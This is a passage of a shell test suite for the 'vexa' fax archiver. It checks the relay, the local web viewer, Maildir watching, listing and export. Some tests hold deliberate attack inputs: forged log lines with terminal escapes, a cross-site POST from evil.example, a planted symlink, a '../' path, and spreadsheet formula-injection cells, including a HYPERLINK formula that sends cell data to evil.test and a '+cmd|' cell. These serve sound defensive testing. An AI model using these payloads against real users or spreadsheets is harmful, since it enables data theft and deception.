        expect_eq "--listen port $port" 64 "$?"
    done
    printf 'Listen=localhost\n' >>"$XDG_CONFIG_HOME/vexa/settings.ini"
    timeout 3 "$VEXA" relay >/dev/null 2>"$WORLD/stderr"
    expect_eq "a bad Listen= is a settings error" 78 "$?"
    expect_contains "names the setting" "Listen= in [Relay]" "$(cat "$WORLD/stderr")"
    expect_contains "names the file" "$XDG_CONFIG_HOME/vexa/settings.ini" "$(cat "$WORLD/stderr")"
}

test_relay_logs_what_a_client_sent_as_printable_text() {
    install_vexa
    mkdir -p "$XDG_CONFIG_HOME/vexa"
    printf '[Relay]\nUpstream=smtp://127.0.0.1:1\n' >"$XDG_CONFIG_HOME/vexa/settings.ini"
    local port relay forged
    port=$(python3 -c 'import socket; s = socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])')
    "$VEXA" relay --listen "127.0.0.1:$port" </dev/null 2>"$WORLD/relay.err" &
    relay=$!
    for _ in {1..50}; do grep -q "listening on" "$WORLD/relay.err" && break; sleep 0.1; done
    # A login name that would write a line of its own, and move the cursor of a terminal.
    forged=$(printf 'ann refused\nvexa relay: 10.0.0.9:4444: relayed fax {0000042}\033[2J' | base64 -w0)
    exec 3<>"/dev/tcp/127.0.0.1/$port"
    printf 'EHLO c\r\nAUTH LOGIN\r\n%s\r\n%s\r\nQUIT\r\n' "$forged" "$(printf x | base64)" >&3
    timeout 10 cat <&3 >/dev/null
    exec 3<&-
    kill "$relay"
    wait "$relay"
    expect_eq "no forged line" "" "$(grep -a '^vexa relay: 10.0.0.9' "$WORLD/relay.err")"
    expect_eq "no escape byte" "" "$(grep -a $'\033' "$WORLD/relay.err")"
}

test_every_command_answers_help_and_does_nothing_else() {
    install_vexa
    make_transport
    local command
    for command in init scan watch send convert options list view open manual; do
        OUT=$("$VEXA" "$command" --help 2>"$WORLD/stderr" <"$SAMPLES/04-outgoing-fax.eml")
        expect_eq "$command --help" 0 "$?"
        expect_contains "$command usage" "Usage: vexa $command" "$OUT"
    done
    "$VEXA" send --transport "$TRANSPORT" --help -- x@efaxsend.com <"$SAMPLES/04-outgoing-fax.eml" >/dev/null
    expect_eq "help after options" 0 "$?"
    [[ ! -e "$WORLD/transport-message" ]] || fail "send --help sent the message"
    expect_eq "nothing archived" 0 "$(sql "SELECT count(*) FROM send")"
}

test_convert_takes_each_message_on_its_own_and_standard_input() {
    install_vexa
    OUT=$("$VEXA" convert --description "by hand" - "$SAMPLES/07-unrelated.eml" "$SAMPLES/02-incoming-pdf.eml" \
        <"$SAMPLES/01-incoming-tiff.eml" 2>"$WORLD/stderr")
    expect_eq "one was not converted" 1 "$?"
    expect_eq "which one" "Message is not correct type!
vexa convert: in $SAMPLES/07-unrelated.eml" "$(cat "$WORLD/stderr")"
    expect_eq "rows" "1|by hand|R0000001.tif
2|by hand|R0000002.pdf" "$(sql "SELECT Id, Description, FileId FROM recv ORDER BY Id")"
    "$VEXA" convert - <"$SAMPLES/08-not-a-message.txt" >/dev/null 2>"$WORLD/stderr"
    expect_eq "no message on standard input" "Message is not correct type!" "$(cat "$WORLD/stderr")"
    run convert - -
    expect_eq "standard input twice" 64 "$STATUS"
}

# Under umask 000 nothing vexa makes is open to other users: the installation, its settings,
# the store folder, the viewer's record and launch file, an export.
test_nothing_vexa_makes_is_open_to_others_under_umask_000() {
    rm -rf "$XDG_CONFIG_HOME" "$XDG_DATA_HOME"
    deliver 01-incoming-tiff.eml
    mkdir -p "$WORLD/bin"
    printf '#!/bin/sh\nexit 0\n' >"$WORLD/bin/xdg-open" && chmod 755 "$WORLD/bin/xdg-open"
    (
        umask 000
        "$VEXA" init >/dev/null && "$VEXA" scan >/dev/null &&
            PATH="$WORLD/bin:$PATH" "$VEXA" open >/dev/null && "$VEXA" export-files "$WORLD/home/export/faxes" >/dev/null
    ) || fail "a command failed under umask 000"
    local viewer _
    viewer=$(sed -n 2p "$XDG_RUNTIME_DIR"/vexa/viewer-*.url)
    kill "$viewer" 2>/dev/null
    # Gone before the archive is read: a viewer still opening it holds its write lock a moment.
    for _ in $(seq 100); do kill -0 "$viewer" 2>/dev/null || break; sleep 0.05; done
    expect_eq "open to others" "" "$(find "$HOME" "$XDG_RUNTIME_DIR" -newer "$SAMPLES/01-incoming-tiff.eml" -perm /o+w ! -type l)"
    expect_eq "archived" 1 "$(sql "SELECT count(*) FROM recv")"
}

# The viewer reads a stored file only when it is a regular file in Attach: a link planted there
# is not followed (not even for the pages), and a FIFO never holds a request.
test_the_viewer_follows_no_link_and_waits_on_no_fifo_in_attach() {
    install_vexa
    deliver 01-incoming-tiff.eml
    deliver 02-incoming-pdf.eml
    run scan
    cp "$INSTALL/Attach/R0000001.tif" "$WORLD/outside.tif"
    ln -sf "$WORLD/outside.tif" "$INSTALL/Attach/R0000001.tif"
    rm "$INSTALL/Attach/R0000002.pdf" && mkfifo "$INSTALL/Attach/R0000002.pdf"
    "$VEXA" view --no-open >"$WORLD/address" 2>/dev/null &
    local viewer=$! _ address base token id what
    for _ in $(seq 100); do [[ -s $WORLD/address ]] && break; sleep 0.1; done
    address=$(head -1 "$WORLD/address") base=${address%%/\?*} token=${address##*token=}
    for id in 1 2; do
        for what in "api/recv/$id" "page/recv/$id/1.png" "file/recv/$id"; do
            curl -s -m 5 -o "$WORLD/body" -w '%{http_code}' -H "Cookie: vexa_token_${base##*:}=$token" "$base/$what" >"$WORLD/code"
            if [[ $what == api/* ]]; then
                expect_contains "/$what: no pages" '"kind":"other"' "$(cat "$WORLD/body")"
            else
                expect_eq "/$what" 404 "$(cat "$WORLD/code")"
            fi
        done
    done
    kill "$viewer"
    for _ in $(seq 50); do kill -0 "$viewer" 2>/dev/null || break; sleep 0.1; done
    kill -0 "$viewer" 2>/dev/null && { kill -9 "$viewer"; fail "the viewer hung"; }
    wait "$viewer" 2>/dev/null
}

# Read and unread from the viewer's page: one fax New again, all of a list read; only the page's
# own posts (the secret and its origin) change anything.
test_the_viewer_marks_faxes_read_and_unread() {
    install_vexa
    deliver 01-incoming-tiff.eml
    deliver 02-incoming-pdf.eml
    run scan
    "$VEXA" view --no-open >"$WORLD/address" 2>/dev/null &
    local viewer=$! _ address base token
    for _ in $(seq 100); do [[ -s $WORLD/address ]] && break; sleep 0.1; done
    address=$(head -1 "$WORLD/address") base=${address%%/\?*} token=${address##*token=}
    post() {  # post PATH [CURL ARGS...]: the answer's status and body on one line
        local path=$1
        shift
        curl -s -m 5 -d "" -w ' %{http_code}' -H "Cookie: vexa_token_${base##*:}=$token" "$@" "$base/$path"
    }
    local page=(-H "Origin: $base")
    expect_eq "seen" '{"ok":true} 200' "$(post api/recv/1/seen "${page[@]}")"
    expect_eq "New again" '{"new":true} 200' "$(post api/recv/1/unseen "${page[@]}")"
    expect_contains "no such fax" " 404" "$(post api/recv/9/unseen "${page[@]}")"
    expect_contains "another site's post" " 403" "$(post api/recv/1/unseen -H "Origin: http://evil.example")"
    expect_contains "no secret" " 403" "$(curl -s -m 5 -d "" -w ' %{http_code}' "${page[@]}" "$base/api/recv/seen-all")"
    expect_eq "all a search selects read" '{"cleared":1} 200' "$(post 'api/recv/seen-all?search=LA0815' "${page[@]}")"
    expect_eq "the rest still New" "1" "$(sql "SELECT Id FROM recv WHERE New <> 0")"
    expect_contains "a bad day" " 400" "$(post 'api/recv/seen-all?since=yesterday' "${page[@]}")"
    expect_eq "all read" '{"cleared":1} 200' "$(post api/recv/seen-all "${page[@]}")"
    local list
    list=$(curl -s -m 5 -H "Cookie: vexa_token_${base##*:}=$token" "$base/api/recv")
    expect_contains "one New for everyone" '"shared":false' "$list"
    expect_contains "nobody recorded" '"who":""' "$list"
    expect_contains "the badge" '"newCount":0' "$list"
    kill "$viewer"
    wait "$viewer" 2>/dev/null
}

# The viewer lists in the order the address asks for, and refuses an order it does not know.
test_the_viewer_sorts_as_asked() {
    install_vexa
    sql "INSERT INTO recv (Date, Number, Subject, New) VALUES ('2024-01-02 00:00:00', '222', 'b', 1),
         ('2024-01-01 00:00:00', '333', 'a', 0), ('2024-01-03 00:00:00', '111', 'c', 0)"
    "$VEXA" view --no-open >"$WORLD/address" 2>/dev/null &
    local viewer=$! _ address base token query answer
    for _ in $(seq 100); do [[ -s $WORLD/address ]] && break; sleep 0.1; done
    address=$(head -1 "$WORLD/address") base=${address%%/\?*} token=${address##*token=}
    while IFS='|' read -r query answer; do
        curl -s -m 5 -o "$WORLD/body" -w '%{http_code} ' -H "Cookie: vexa_token_${base##*:}=$token" \
            "$base/api/recv?$query" >"$WORLD/code"
        expect_eq "$query" "$answer" "$(cat "$WORLD/code")$(grep -o '"id":[0-9]*' "$WORLD/body" | cut -d: -f2 | paste -sd' ')$(grep -o 'sort is[^"]*\|dir is[^"]*' "$WORLD/body")"
    done <<'EOF'
|200 3 1 2
sort=number&dir=asc|200 3 1 2
sort=number&dir=desc|200 2 1 3
sort=subject&dir=asc&limit=2&offset=1|200 1 3
sort=state|200 1 3 2
sort=size|400 sort is date, number, subject, description, file, state or who
sort=date&dir=up|400 dir is asc or desc
EOF
    kill "$viewer"
    wait "$viewer" 2>/dev/null
}

test_open_starts_the_viewer_and_reuses_it() {
    install_vexa
    rm -r "$MAILBOX"
    mkdir -p "$WORLD/bin"
    printf '#!/bin/sh\nprintf "%%s\\n" "$1" >> "%s/opened"\n' "$WORLD" >"$WORLD/bin/xdg-open"
    chmod +x "$WORLD/bin/xdg-open"
    PATH="$WORLD/bin:$PATH" run open
    expect_eq "status" 0 "$STATUS"
    # The browser gets a private file that sends it on to the viewer: the secret is never in a
    # command line, which every local user can read.
    local first record pid launch
    launch=$(sed -n 1p "$WORLD/opened")
    [[ $launch == "$XDG_RUNTIME_DIR"/vexa/open-*.html ]] || fail "the browser was given $launch"
    expect_eq "the launch file is private" 600 "$(stat -c %a "$launch")"
    first=$(grep -o 'url=[^"]*' "$launch" | cut -c5-)
    [[ $first =~ ^http://127\.0\.0\.1:[0-9]+/\?token=[0-9a-f]{64}$ ]] || fail "the browser was not sent to the viewer: $first"
    PATH="$WORLD/bin:$PATH" run open
    expect_eq "the running viewer reused" "$first" "$(grep -o 'url=[^"]*' "$(sed -n 2p "$WORLD/opened")" | cut -c5-)"
    record=$(cat "$XDG_RUNTIME_DIR"/vexa/viewer-*.url)
    expect_eq "the viewer's record" "$first" "$(sed -n 1p <<<"$record")"
    pid=$(sed -n 2p <<<"$record")
    kill "$pid"
    for _ in $(seq 50); do kill -0 "$pid" 2>/dev/null || break; sleep 0.1; done
    kill -0 "$pid" 2>/dev/null && fail "the viewer did not stop on SIGTERM"
    expect_eq "its record removed" "" "$(ls "$XDG_RUNTIME_DIR/vexa" | grep -v '^open-')"
    PATH="$WORLD/bin:$PATH" run manual
    expect_eq "manual without a Maildir" 0 "$STATUS"
}

# -- arrivals: once per Inbox message; scan and watch output --

keep_faxes_in_the_inbox() {  # the store folder name empty: archived faxes stay in the Inbox
    "$VEXA" options --set "StoreFolderName=x" >/dev/null
    sed -i 's/^StoreFolderName=.*/StoreFolderName=""/' "$XDG_CONFIG_HOME/vexa/settings.ini"
}

start_watch() {  # start_watch ARGS...: WATCH_PID, output in $WORLD/watch-out and watch-err
    : >"$WORLD/watch-out"  # emptied here, so an earlier run's "Watching" is not taken for this one's
    "$VEXA" watch "$@" >"$WORLD/watch-out" 2>"$WORLD/watch-err" </dev/null &
    WATCH_PID=$!
    for _ in $(seq 200); do grep -q Watching "$WORLD/watch-out" 2>/dev/null && break; sleep 0.05; done
}

stop_watch() {  # sets WATCH_STATUS
    kill -TERM "$WATCH_PID"
    wait "$WATCH_PID"
    WATCH_STATUS=$?
}

test_a_fax_left_in_the_inbox_is_archived_once() {
    install_vexa
    keep_faxes_in_the_inbox
    deliver 01-incoming-tiff.eml 3000.a.host
    run scan
    expect_eq "first scan" "1 archived as incoming faxes, 0 as confirmations, 0 confirmations matched no fax, 0 left alone, 0 failed" "$OUT"
    expect_eq "still in the Inbox" 1 "$(count_files "$MAILBOX")"
    run scan
    expect_eq "rescan" "0 archived as incoming faxes, 0 as confirmations, 0 confirmations matched no fax, 0 left alone, 0 failed" "$OUT"
    # Dovecot moves it to cur/ when a client opens the Inbox; watch starts, stops and starts again.
    mv "$MAILBOX/new/3000.a.host" "$MAILBOX/cur/3000.a.host:2,"
    start_watch
    stop_watch
    start_watch
    stop_watch
    expect_eq "one row" 1 "$(sql "SELECT COUNT(*) FROM recv")"
    expect_eq "one file" "R0000001.tif" "$(ls "$INSTALL/Attach")"
    expect_eq "nothing reported" "" "$(cat "$WORLD/watch-err")"
}

test_watch_archives_the_backlog_that_reached_cur_while_it_was_down() {
    install_vexa
    # Delivered while watch was down, and moved to cur/ unread by a client opening the Inbox.
    cp "$SAMPLES/02-incoming-pdf.eml" "$MAILBOX/cur/3100.b.host:2,"
    cp "$SAMPLES/07-unrelated.eml" "$MAILBOX/cur/3101.c.host:2,S"
    start_watch
    stop_watch
    expect_eq "stopped by SIGTERM" 0 "$WATCH_STATUS"
    expect_eq "archived at start" "R0000001.pdf" "$(sql "SELECT FileId FROM recv")"
    expect_eq "its line" "incoming fax R0000001.pdf row 1: eFax message from \"3105550199\" - 1 page(s), Caller-ID: Zoë Ångström" "$(head -1 "$WORLD/watch-out")"
    expect_eq "moved to the store folder" 1 "$(count_files "$MAILBOX/.VX2 Messages")"
}

test_watch_exits_75_when_its_maildir_goes_away_and_archives_after_a_restart() {
    install_vexa
    local unit round=0 removal
    # The shipped unit starts watch again after a 75, at run time and at start alike.
    unit="$(dirname "$(realpath "$0")")/../../contrib/vexa-watch.service"
    expect_eq "the unit restarts" "Restart=on-failure" "$(grep '^Restart=' "$unit")"
    [[ $(grep '^RestartPreventExitStatus=' "$unit") != *75* ]] || fail "the unit does not restart after 75"
    for removal in "rm -rf $MAILBOX" "mv $MAILBOX $WORLD/moved" "rm -rf $MAILBOX/cur" "mv $MAILBOX/new $WORLD/new"; do
        round=$((round + 1))
        start_watch
        $removal
        for _ in $(seq 200); do kill -0 "$WATCH_PID" 2>/dev/null || break; sleep 0.05; done
        kill -0 "$WATCH_PID" 2>/dev/null && { fail "$removal: watch kept running"; kill -TERM "$WATCH_PID"; }
        wait "$WATCH_PID"
        expect_eq "$removal: exit status" 75 "$?"
        expect_eq "$removal: says why, once" \
            "vexa watch: the Maildir $MAILBOX is gone (deleted, moved or unmounted); exiting so that the service starts watch again once it is back" \
            "$(cat "$WORLD/watch-err")"
        # A restart before the Maildir is back is a pause too, not a setting to fix.
        [[ -d $MAILBOX/new && -d $MAILBOX/cur ]] || {
            run watch
            expect_eq "$removal: started without a Maildir" "75|vexa watch: the Maildir $MAILBOX is missing; exiting so that the service tries again later" "$STATUS|$ERR"
        }
        mkdir -m 700 "$MAILBOX" "$MAILBOX"/{cur,new,tmp} 2>/dev/null  # what the removal took
        deliver 01-incoming-tiff.eml "4000.$round.host"
        start_watch
        for _ in $(seq 200); do [[ $(sql "SELECT COUNT(*) FROM recv") == "$round" ]] && break; sleep 0.05; done
        stop_watch
        expect_eq "$removal: stopped after the restart" 0 "$WATCH_STATUS"
        expect_eq "$removal: archived once" "$round|R000000$round.tif" "$(sql "SELECT COUNT(*), max(FileId) FROM recv")"
        [[ -s $INSTALL/Attach/R000000$round.tif ]] || fail "$removal: no file in Attach"
        expect_eq "$removal: moved to the store folder" 1 "$(count_files "$MAILBOX/.VX2 Messages")"
        rm -rf "$MAILBOX/.VX2 Messages"
    done
}

test_scan_include_read_backfills_read_faxes() {
    install_vexa
    cp "$SAMPLES/01-incoming-tiff.eml" "$MAILBOX/cur/3200.a.host:2,S"
    cp "$SAMPLES/05-confirmation-success.eml" "$MAILBOX/cur/3201.b.host:2,RS"
    sql "INSERT INTO send (Id, Confirm) VALUES (1, 'Unconfirmed')"
    run scan
    expect_eq "read mail is no arrival" "0 archived as incoming faxes, 0 as confirmations, 0 confirmations matched no fax, 0 left alone, 0 failed" "$OUT"
    run scan --include-read
    expect_eq "exit status" 0 "$STATUS"
    expect_eq "backfilled" "1 archived as incoming faxes, 1 as confirmations, 0 confirmations matched no fax, 0 left alone, 0 failed" "$OUT"
    expect_eq "row" "1|R0000001.tif" "$(sql "SELECT Id, FileId FROM recv")"
    expect_eq "confirmed" "Successful" "$(sql "SELECT Confirm FROM send WHERE Id = 1")"
    expect_eq "moved, still read" "2 2" "$(count_files "$MAILBOX/.VX2 Messages") $(ls "$MAILBOX/.VX2 Messages/cur" | grep -c ',.*S')"
    run scan --include-read
    expect_eq "once" "0 archived as incoming faxes, 0 as confirmations, 0 confirmations matched no fax, 0 left alone, 0 failed" "$OUT"
}

test_watch_prints_what_it_archived_and_names_the_mail_of_each_message() {
    install_vexa
    sql "INSERT INTO send (Id, Confirm) VALUES (1, 'Unconfirmed')"
    start_watch
    deliver 01-incoming-tiff.eml 3300.a.host
    deliver 05-confirmation-success.eml 3301.b.host
    sed 's/{0000001}/{0000077}/' "$SAMPLES/06-confirmation-failure.eml" >"$MAILBOX/tmp/3302.c.host"
    mv "$MAILBOX/tmp/3302.c.host" "$MAILBOX/new/3302.c.host"
    deliver 03-incoming-no-attachment.eml 3303.d.host
    deliver 07-unrelated.eml 3304.e.host
    for _ in $(seq 200); do [[ -s "$WORLD/watch-err" ]] && break; sleep 0.05; done
    stop_watch
    expect_eq "stopped by SIGTERM after a message" 0 "$WATCH_STATUS"
    expect_eq "lines" "Watching $MAILBOX
incoming fax R0000001.tif row 1: eFax message from \"2125550000\" - 1 page(s), Caller-ID: Müller
confirmation of row 1: Successful
confirmation matched no fax: Unsuccessful Fax Transmission to 12125551234" "$(cat "$WORLD/watch-out")"
    expect_eq "the message names its mail" \
        "3303.d.host (eFax voice message from \"2125550147\" - 0:42 minutes): Incoming message does not contain an attachment!" \
        "$(cat "$WORLD/watch-err")"

    # Quiet: the same traffic, no lines.
    deliver 01-incoming-tiff.eml 3305.f.host
    start_watch -q
    stop_watch
    expect_eq "quiet" "Watching $MAILBOX" "$(cat "$WORLD/watch-out")"
    expect_eq "archived all the same" 2 "$(sql "SELECT COUNT(*) FROM recv")"
}

test_scan_counts_confirmations_that_matched_no_fax_apart() {
    install_vexa
    sql "INSERT INTO send (Id, Confirm) VALUES (1, 'Unconfirmed')"
    deliver 05-confirmation-success.eml 3400.a.host
    sed 's/{0000001}/{0000077}/' "$SAMPLES/06-confirmation-failure.eml" >"$MAILBOX/new/3401.b.host"
    run scan
    expect_eq "summary" "0 archived as incoming faxes, 1 as confirmations, 1 confirmations matched no fax, 0 left alone, 0 failed" "$OUT"
    expect_eq "row 1 only" "1|Successful" "$(sql "SELECT Id, Confirm FROM send")"
}

test_a_transport_that_leaves_the_message_unread_did_not_send_it() {
    install_vexa
    send_fax --transport 'head -c 5 >/dev/null; exit 0' -- 12125551234@efaxsend.com <"$SAMPLES/04-outgoing-fax.eml"
    expect_eq "the mail reader keeps the message" 75 "$STATUS"
    expect_contains "why" "the transport ended after taking only 5 of the message's" "$ERR"
    expect_contains "what became of the fax" "{0000001} is taken out of the archive" "$ERR"
    expect_eq "no row" 0 "$(sql "SELECT count(*) FROM send")"
    expect_eq "no document" "" "$(ls "$INSTALL/Attach")"
}

test_list_prints_the_archive_as_csv_json_and_table() {
    install_vexa
    deliver 01-incoming-tiff.eml
    run scan
    rm -rf "$MAILBOX"  # listing needs no mailbox
    run list recv --format csv
    expect_eq "csv status" 0 "$STATUS"
    expect_eq "csv header" "Id,Date,Number,Subject,Description,FileName,FileId,Who,New" "$(head -n 1 <<<"$OUT" | tr -d '\r')"
    expect_contains "csv row" "1,2023-03-14 09:15:42,NY4711-23," "$OUT"
    expect_contains "csv row's stored file" ",R0000001.tif,," "$OUT"
    # A stranger's subject with a quote, a comma, a newline and an escape sequence.
    sql "INSERT INTO recv (Date, Number, Subject, FileName, FileId, New) VALUES ('2024-01-02 03:04:05', '555', 'say \"hi\", x'
         || char(10) || 'line2' || char(27) || '[31m', 'f.pdf', '=R\"1', 1)"
    sql "INSERT INTO send (Date, Number, Subject, Confirm) VALUES ('2024-01-01 00:00:00', '1', 'ok', 'Successful'), ('2024-01-03 00:00:00', '2', 'open', NULL)"
    run list recv --format csv
    expect_eq "newest first, quoted" "2,2024-01-02 03:04:05,555,\"say \"\"hi\"\", x
line2"$'\e'"[31m\",,f.pdf,\"'=R\"\"1\",,1" "$(sed -n '2,3p' <<<"$OUT" | tr -d '\r')"
    run list recv --format json --search 'SAY X'
    expect_eq "json" '[
  {"Id": 2, "Date": "2024-01-02 03:04:05", "Number": "555", "Subject": "say \"hi\", x\nline2\u001b[31m", "Description": "", "FileName": "f.pdf", "FileId": "=R\"1", "Who": "", "New": true}
]' "$OUT"
    # Cells a spreadsheet would run as formulas, and a name that turns its own direction around.
    sql "INSERT INTO recv (Date, Number, Subject, Description, FileName, New) VALUES
         ('2023-01-01 00:00:00', '+49 30 1234', '=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")', '-2+3', '@SUM(1+1)', 0),
         ('2023-01-01 00:00:01', '-5', '+1+cmd|x', char(9) || '=1', 'javascript:alert(5)' || char(8238) || 'fdp.exe', 0)"
    run list recv --format csv --until 2023-01-01
    expect_eq "formulas neutralised, numbers kept" "4,2023-01-01 00:00:01,-5,'+1+cmd|x,'"$'\t'"=1,javascript:alert(5)"$'\u202e'"fdp.exe,,,0
3,2023-01-01 00:00:00,+49 30 1234,\"'=HYPERLINK(\"\"http://evil.test/?\"\"&A1,\"\"click\"\")\",'-2+3,'@SUM(1+1),,,0" "$(sed -n '2,3p' <<<"$OUT" | tr -d '\r')"
    run list recv --until 2023-01-01
    expect_contains "the table shows the direction mark" 'javascript:alert(5)\u202efdp.exe' "$OUT"
    run list recv
    expect_contains "table escapes" 'say "hi", x\nline2\x1b[31m' "$OUT"
    [[ "$OUT" != *$'\e'* ]] || fail "the table passed an escape character"
    run list send --state Unconfirmed --format csv
    expect_eq "unconfirmed" "2,2024-01-03 00:00:00,2,open,,,,,Unconfirmed" "$(sed -n 2p <<<"$OUT" | tr -d '\r')"
    "$VEXA" list recv >/dev/full 2>"$WORLD/stderr"
    expect_eq "a list that cannot be written" 74 "$?"
    run list send --state Successful --since 2024-01-01 --until 2024-01-01 --format csv
    expect_eq "successful that day" "1,2024-01-01 00:00:00,1,ok,,,,,Successful" "$(sed -n '2,$p' <<<"$OUT" | tr -d '\r')"
    # Each order as the Ids of its rows; ties go by Id in the same direction.
    local order
    while IFS='|' read -r args order; do
        # shellcheck disable=SC2086
        run list $args --format csv
        expect_eq "list $args" "$order" "$(sed -n '2,$p' <<<"$OUT" | grep -o '^[0-9]*,20[0-9-]* ' | cut -d, -f1 | paste -sd' ')"
    done <<'EOF'
recv|2 1 4 3
recv --ascending|3 4 1 2
recv --sort number --ascending|3 4 2 1
recv --sort number --descending|1 2 4 3
recv --sort state|2 1 4 3
recv --sort who --ascending|1 2 3 4
recv --sort file --ascending --until 2023-01-01|3 4
send --sort state --ascending|2 1
send --sort subject --ascending|1 2
EOF
}

test_list_refuses_bad_options() {
    install_vexa
    local args
    for args in "send --state Done" "recv --sort size" "recv --ascending --descending" "recv --since 2024-13-01" "recv --until yesterday" "recv --format xml" "faxes" ""; do
        # shellcheck disable=SC2086
        run list $args
        expect_eq "list $args" 64 "$STATUS"
    done
    expect_contains "says why" "--state is Unconfirmed, Successful or Unsuccessful, not 'Done'" "$(run list send --state Done; echo "$ERR")"
}

test_export_files_writes_the_stored_files_out() {
    install_vexa
    cp "$SAMPLES"/0[12]-*.eml "$MAILBOX/new/"
    "$VEXA" scan >/dev/null 2>&1
    # A row naming a file that is no stored name of its own is not followed.
    sql "INSERT INTO recv (Subject, FileId) VALUES ('stray', '../Corvane.mdb')"
    run export-files "$WORLD/export"
    expect_eq "status" 0 "$STATUS"
    expect_eq "summary" "2 files written to $WORLD/export, 0 missing" "$OUT"
    expect_eq "the same bytes" "$(cd "$INSTALL/Attach" && sha256sum *)" "$(cd "$WORLD/export" && sha256sum *)"
    rm "$INSTALL/Attach/R0000002.pdf"
    run export-files "$WORLD/again"
    expect_eq "a file missing" "1|1 files written to $WORLD/again, 1 missing" "$STATUS|$OUT"
    expect_contains "which" "R0000002.pdf of row 2" "$ERR"
}

# ---- runner --------------------------------------------------------------------------------

run_suite "$@"
